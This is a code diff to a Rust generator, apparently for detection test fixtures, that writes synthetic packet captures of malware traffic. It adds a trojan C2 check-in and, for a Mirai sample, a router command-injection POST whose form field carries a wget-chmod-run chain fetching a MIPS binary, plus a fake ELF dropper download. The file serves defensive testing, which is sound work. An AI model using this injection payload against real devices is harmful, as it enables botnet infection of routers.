@@ -481,7 +481,8 @@ fn checksum8_path(target: u8, seed: u64) -> String {
 /// 53005 first, with the same metadata block in a cookie), 53002 its task
 /// output POST, 53003 an x64
 /// stager fetch (a checksum8 URI), 53004 a plain HTTP trojan checking in
-/// with the host name, user name and OS in the query.
+/// with the host name, user name and OS in the query (its second report,
+/// from 53006 first).
 pub fn c2(path: &Path) -> std::io::Result<()> {
     let server = ("10.40.0.66", 80);
     let ie = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; BOIE9;ENUS)";
@@ -546,8 +547,9 @@ pub fn c2(path: &Path) -> std::io::Result<()> {
         &response("application/octet-stream", &noise(15, 2_100)),
         2,
     );
-    let trojan = session(
-        ("10.40.0.7", 53004),
+    let trojan_checkin = |port: u16| {
+        session(
+        ("10.40.0.7", port),
         ("10.40.0.67", 8080),
         &request(
             "GET",
@@ -557,8 +559,14 @@ pub fn c2(path: &Path) -> std::io::Result<()> {
         ),
         &response("text/plain", b"ok|sleep=60"),
         2,
-    );
-    write(path, vec![first_checkin, beacon, output, stager, trojan])
+    )
+    };
+    let first_report = trojan_checkin(53006);
+    let trojan = trojan_checkin(53004);
+    write(
+        path,
+        vec![first_checkin, beacon, output, stager, first_report, trojan],
+    )
 }
 
 /// Cryptomining: 54001 a Stratum v1 session to a pool (subscribe,
@@ -649,8 +657,11 @@ pub fn mining(path: &Path) -> std::io::Result<()> {
 
 /// Mirai: 55001.. scanner SYNs to port 23 whose sequence number is the
 /// destination address, a telnet session (55100) logging in with a default
-/// credential and probing with `/bin/busybox MIRAI`, and an attack command
-/// from its C2 (55200): a 30 s UDP flood on one target, payload size 512.
+/// credential and probing with `/bin/busybox MIRAI`, an attack command
+/// from its C2 (55200): a 30 s UDP flood on one target, payload size 512,
+/// a loader's exploit request against a router's web page (55300: a
+/// download-and-run chain in a form value), and the dropper it fetches
+/// (55301: a MIPS ELF to `Wget`).
 pub fn mirai(path: &Path) -> std::io::Result<()> {
     let mut scans = Vec::new();
     for (i, target) in ["10.60.1.10", "10.60.1.11", "10.60.7.200"]
@@ -734,7 +745,42 @@ pub fn mirai(path: &Path) -> std::io::Result<()> {
             conn.segment(false, ACK, b""),
         ]
     };
-    write(path, vec![scans, telnet, command])
+    let injected =
+        "; cd /tmp; wget http://10.60.0.77/bins/mips; chmod 777 mips; ./mips router.exploit;";
+    let exploit_body = format!("remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host={}&remoteSubmit=Save", url_encode(injected));
+    let exploit = session(
+        ("10.60.0.13", 55300),
+        ("10.60.1.10", 80),
+        &request(
+            "POST",
+            "/boaform/admin/formLogin",
+            &[
+                ("Host", "10.60.1.10:80"),
+                ("User-Agent", "Hello, World"),
+                ("Content-Type", "application/x-www-form-urlencoded"),
+            ],
+            exploit_body.as_bytes(),
+        ),
+        &response("text/html", b"<html>OK</html>"),
+        2,
+    );
+    let mut elf = b"\x7fELF\x01\x02\x01".to_vec();
+    elf.resize(18, 0);
+    elf.extend_from_slice(&8u16.to_be_bytes());
+    elf.extend(noise(16, 1_500));
+    let dropper = session(
+        ("10.60.1.10", 55301),
+        ("10.60.0.77", 80),
+        &request(
+            "GET",
+            "/bins/mips",
+            &[("Host", "10.60.0.77"), ("User-Agent", "Wget")],
+            b"",
+        ),
+        &response("application/octet-stream", &elf),
+        1,
+    );
+    write(path, vec![scans, telnet, command, exploit, dropper])
 }
 
 /// Covert channels: a DNS tunnel from 56001 (60 TXT questions with base32
